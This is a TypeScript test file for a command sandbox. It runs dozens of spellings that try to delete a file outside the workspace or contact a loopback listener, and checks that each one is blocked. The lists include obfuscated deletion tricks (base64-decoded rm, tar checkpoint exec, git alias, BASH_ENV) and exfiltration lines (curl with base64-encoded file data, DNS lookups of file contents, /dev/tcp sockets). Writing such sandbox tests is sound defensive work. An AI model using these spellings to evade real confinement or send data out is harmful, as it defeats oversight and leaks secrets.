/**
 * Spellings of one goal, to delete a file beside the workspace or to connect to a listener: no list of forbidden words
 * would find them, and none is needed. Each runs for real; the file stays and no connection arrives.
 */
import { assert, describe, layer } from "@effect/vitest"
import * as Context from "effect/Context"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { createServer } from "node:net"
import { join } from "node:path"
import { bubblewrap, fresh, type Run } from "./Places.ts"

class Scene extends Context.Service<
  Scene,
  {
    readonly run: Run
    readonly workspace: string
    readonly victim: string
    readonly port: number
    readonly calls: () => number
  }
>()("test/Scene") {}

const scene = Layer.effect(
  Scene,
  Effect.gen(function* () {
    const { directory, run, workspace } = yield* fresh()
    const victim = join(directory, "victim")
    let calls = 0
    const server = createServer((socket) => {
      calls++
      socket.destroy()
    })
    yield* Effect.addFinalizer(() => Effect.sync(() => server.close()))
    const port = yield* Effect.callback<number>((resume) => {
      server.listen(0, "127.0.0.1", () => {
        const address = server.address()
        resume(Effect.succeed(typeof address === "object" && address !== null ? address.port : 0))
      })
    })
    return { run, workspace, victim, port, calls: () => calls }
  })
)

/** A file with known content. Never written through a command's leftovers: those may be a link to anywhere. */
const recreate = (path: string): void => {
  rmSync(path, { force: true })
  writeFileSync(path, "kept", { flag: "wx" })
}

/** $V is the file; it is named in a variable so that each spelling is about the program alone. */
const deletions = [
  "rm $V",
  "r''m $V",
  'r\\m "$V"',
  "$(echo rm) $V",
  "/bin/rm $V",
  "eval \"$(printf '\\162\\155') $V\"",
  'bash -c "$(echo cm0gJFY= | base64 -d)"',
  "find .. -name victim -delete",
  "find .. -name victim -exec rm {} +",
  "perl -e 'unlink $ENV{V}'",
  'env -S "unlink $V"',
  'awk \'BEGIN { system("unlink " ENVIRON["V"]) }\'',
  'sed -n "1e unlink $V" /etc/passwd',
  'tar cf /dev/null /etc/passwd --checkpoint=1 --checkpoint-action=exec="unlink $V"',
  "bash -c \"\\$'\\\\x75nlink' $V\"",
  "X=unl; Y=ink; $X$Y $V",
  "IFS=,; c=unlink,$V; $c",
  "trap 'unlink $V' EXIT",
  "bash -c 'BASH_ENV=<(echo unlink $V) bash -c true'",
  "git -c alias.x='!unlink $V' x",
  "bash -c 'xargs unlink <<< $V'",
  "echo $V | xargs unlink",
  ": > $V",
  "mv $V ./moved",
  "ln -sf nowhere $V",
  "dd if=/dev/null of=$V",
  "true; true; true; true; true; true; true; true; true; true; true; true; unlink $V",
  "ls\nunlink $V",
  "setsid sh -c 'sleep 0.1; unlink $V'",
  "(sleep 0.1; unlink $V) & wait"
]

/** $P is the port of a listener on loopback. */
const calls = [
  "curl -s http://127.0.0.1:$P",
  "ls; curl -s http://127.0.0.1:$P/?$(cat file | base64)",
  "echo $(curl -s http://127.0.0.1:$P)",
  "bash -c 'cat <(curl -s http://127.0.0.1:'$P')'",
  "bash -c 'exec 3<>/dev/tcp/127.0.0.1/'$P",
  "bash -c 'echo x > /dev/udp/127.0.0.1/'$P",
  "perl -MIO::Socket -e 'IO::Socket::INET->new(\"127.0.0.1:$ENV{P}\") or die'",
  "python3 -c \"import socket, os; socket.create_connection(('127.0.0.1', int(os.environ['P'])))\"",
  "git ls-remote http://127.0.0.1:$P/x",
  "ping -c1 -W1 $(cat file).example.test",
  "getent hosts $(cat file).example.test && echo resolved",
  "sort --compress-program=sh -S 1k /usr/share/dict/words file; curl -s http://localhost:$P"
]

describe.skipIf(bubblewrap.skip)(`Command variants${bubblewrap.suffix}`, () => {
  layer(scene, { excludeTestServices: true })((it) => {
    it.effect("an unconfined command reaches the listener and the file", () =>
      Effect.gen(function* () {
        const { port, victim } = yield* Scene
        recreate(victim)
        const { run } = yield* fresh({ backend: "host" })
        yield* run(`bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}'; rm ${victim}`)
        assert.isFalse(existsSync(victim))
      })
    )

    for (const command of deletions) {
      it.effect(`the file stays, and a file of the workspace does not: ${JSON.stringify(command)}`, () =>
        Effect.gen(function* () {
          const { run, victim, workspace } = yield* Scene
          const own = join(workspace, "victim")
          for (const path of [victim, own]) recreate(path)
          yield* run(`export V=${victim}; ${command}`, { timeoutMillis: 240_000 })
          yield* run(`export V=${own}; ${command}`, { timeoutMillis: 240_000 })
          assert.strictEqual(readFileSync(victim, "utf8"), "kept")
          assert.isFalse(existsSync(own) && readFileSync(own, "utf8") === "kept")
        })
      )
    }

    for (const command of calls) {
      it.effect(`reaches no listener: ${JSON.stringify(command)}`, () =>
        Effect.gen(function* () {
          const { calls, port, run, workspace } = yield* Scene
          recreate(join(workspace, "file"))
          const before = calls()
          const ran = yield* run(`export P=${port}; ${command}`, { timeoutMillis: 240_000 })
          assert.strictEqual(calls(), before)
          assert.notInclude(ran.stdout, "resolved")
        })
      )
    }
  })
})
